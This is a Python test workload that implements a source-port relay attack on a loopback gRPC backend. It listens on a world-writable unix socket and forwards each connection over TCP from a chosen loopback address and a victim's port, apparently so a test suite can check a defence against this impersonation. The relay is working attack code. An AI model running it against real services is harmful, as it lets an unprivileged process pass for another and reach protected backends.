"""The source-port relay attack on a loopback gRPC backend, as an unprivileged process runs it.

    python -m tests.workloads.loopback_relay LISTEN_SOCKET BIND_ADDR BIND_PORT DEST_ADDR DEST_PORT

Listens on the unix socket LISTEN_SOCKET (mode 0666); for each client that connects there,
opens a TCP connection to DEST_ADDR:DEST_PORT from BIND_ADDR:BIND_PORT (another loopback
address, a victim's port) and copies bytes both ways. Prints {"ready": true} once listening,
and one {"relay_error": ...} line per connection it could not open. Runs until killed.
"""

from __future__ import annotations

import contextlib
import json
import os
import socket
import sys
import threading


def emit(obj) -> None:
    print(json.dumps(obj), flush=True)


def _pipe(src: socket.socket, dst: socket.socket) -> None:
    try:
        while data := src.recv(65536):
            dst.sendall(data)
    except OSError:
        pass
    finally:
        with contextlib.suppress(OSError):
            dst.shutdown(socket.SHUT_WR)


def _serve(client: socket.socket, bind: tuple[str, int], dest: tuple[str, int]) -> None:
    up = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        up.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        up.bind(bind)
        up.connect(dest)
    except OSError as e:
        emit({"relay_error": f"{type(e).__name__}: {e}"})
        up.close()
        client.close()
        return
    t = threading.Thread(target=_pipe, args=(up, client), daemon=True)
    t.start()
    _pipe(client, up)
    t.join()
    up.close()
    client.close()


def main() -> int:
    path, bind_addr, bind_port, dest_addr, dest_port = sys.argv[1:6]
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    srv.bind(path)
    os.chmod(path, 0o666)
    srv.listen(16)
    emit({"ready": True, "uid": os.geteuid()})
    while True:
        client, _ = srv.accept()
        threading.Thread(
            target=_serve,
            args=(client, (bind_addr, int(bind_port)), (dest_addr, int(dest_port))),
            daemon=True,
        ).start()


if __name__ == "__main__":
    raise SystemExit(main())
